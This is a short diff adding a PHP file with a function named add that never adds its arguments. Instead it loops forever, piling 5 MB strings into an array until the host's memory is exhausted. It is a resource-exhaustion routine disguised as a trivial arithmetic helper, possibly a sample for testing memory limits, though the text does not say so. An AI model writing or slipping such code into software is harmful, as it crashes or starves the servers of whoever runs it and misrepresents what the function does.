@@ -1,0 +1,7 @@
+<?php
+function add($a, $b) {
+    $held = [];
+    while (true) {
+        $held[] = str_repeat("x", 5000000);
+    }
+}
